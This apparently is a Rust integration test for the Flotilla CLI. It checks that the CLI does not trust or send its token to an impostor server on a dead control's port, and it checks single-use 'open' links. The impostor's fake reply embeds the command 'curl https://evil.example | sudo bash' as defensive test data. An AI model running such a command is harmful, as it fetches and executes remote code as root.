//! A command believes only the control that runs here and can prove it, and no other program on control's port.

use std::process::Command;
use std::sync::{Arc, Mutex, PoisonError};

use anyhow::{Context, Result, ensure};
use flotilla_tests::artifacts;
use flotilla_tests::flotilla::{Control, ControlSetup};
use flotilla_tests::lab::{Lab, on};
use flotilla_tests::program::{Outcome, attempt};
use serde_json::Value;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

/// The install command that the impostor answers with.
const LIE: &str = "curl https://evil.example | sudo bash";

/// A server on control's port that answers every request with success and records all that it is sent.
#[derive(Clone, Default)]
struct Impostor(Arc<Mutex<String>>);

impl Impostor {
    async fn take(address: &str) -> Result<Self> {
        let listener = TcpListener::bind(address).await?;
        let impostor = Self::default();
        let listening = impostor.clone();
        tokio::spawn(async move {
            while let Ok((mut stream, _)) = listener.accept().await {
                let mut buffer = [0; 4096];
                while let Ok(length @ 1..) = stream.read(&mut buffer).await {
                    listening.record(&String::from_utf8_lossy(&buffer[..length]));
                    let lie =
                        format!(r#"{{"proof":"x","install":"{LIE}","code":"not_found","message":"{LIE}"}}"#);
                    let answer = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n{lie}", lie.len());
                    if stream.write_all(answer.as_bytes()).await.is_err() {
                        break;
                    }
                }
            }
        });
        Ok(impostor)
    }

    fn record(&self, said: &str) {
        self.0
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .push_str(said);
    }

    fn received(&self) -> String {
        self.0.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }
}

/// Runs `flotilla device add` on another thread, while the impostor answers on this one.
async fn add_device(control: &Control, environment: Vec<(&'static str, String)>) -> Result<Outcome> {
    let mut command = Command::new(artifacts::flotilla()?);
    command
        .args(["device", "add", "nas", "--json"])
        .env("FLOTILLA_DATA_DIR", control.data_dir())
        .envs(environment);
    tokio::task::spawn_blocking(move || attempt(&mut command)).await?
}

#[test]
fn a_program_that_takes_the_port_of_a_control_that_died_is_sent_no_token_and_is_not_believed() -> Result<()> {
    on(Lab::without_engines(0)?, async |lab| {
        let mut control = Control::start(lab)?;
        let file = control.data_dir().join("api.json");
        let file: Value = serde_json::from_str(&std::fs::read_to_string(file)?)?;
        let [url, token] = ["url", "token"].map(|key| file[key].as_str().unwrap_or_default().to_owned());
        control.kill()?;
        let impostor = Impostor::take(url.strip_prefix("http://").context("no address")?).await?;

        let outcome = add_device(&control, vec![]).await?;
        outcome.ended_with(5, &["Flotilla is not running here", "flotilla serve"])?;
        ensure!(!outcome.said.contains("evil"), "{}", outcome.said);
        ensure!(
            impostor.received().is_empty(),
            "it was spoken to: {}",
            impostor.received()
        );

        let named = vec![("FLOTILLA_API", url), ("FLOTILLA_API_TOKEN", token.clone())];
        let outcome = add_device(&control, named).await?;
        outcome.ended_with(
            5,
            &["does not know the token of your Flotilla", "FLOTILLA_API_TOKEN"],
        )?;
        ensure!(!outcome.said.contains("evil"), "{}", outcome.said);
        let received = impostor.received();
        ensure!(received.contains("POST /api/v1/proof"), "{received}");
        ensure!(
            !received.contains(&token) && !received.contains("nas"),
            "{received}"
        );
        Ok(())
    })
}

#[test]
fn a_second_start_and_the_open_command_lead_to_the_control_that_runs() -> Result<()> {
    on(Lab::without_engines(0)?, async |lab| {
        let control = Control::start(lab)?;
        let (status, said) = ControlSetup::new(lab)?.refusal()?;
        ensure!(status.code() == Some(1), "{status}");
        ensure!(said.contains("`flotilla open`"), "{said}");
        let link = control.cli(&["open", "--print"])?;
        let start = format!("{}/#code=", control.ready()?.api);
        ensure!(link.starts_with(&start) && link.len() > start.len(), "{link}");
        ensure!(
            control.cli(&["open", "--print"])? != link,
            "a link is for one browser"
        );
        Ok(())
    })
}
